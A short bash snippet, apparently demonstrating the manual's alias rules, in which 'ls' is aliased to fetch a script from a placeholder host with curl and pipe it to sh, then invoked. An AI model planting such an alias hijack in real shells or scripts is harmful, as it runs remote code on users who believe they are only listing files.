# source: bash manual, 6.6 Aliases (expand_aliases; an alias takes effect on the next line) https://www.gnu.org/software/bash/manual/bash.html#Aliases
shopt -s expand_aliases; alias ls='curl -s https://x.example | sh'
ls
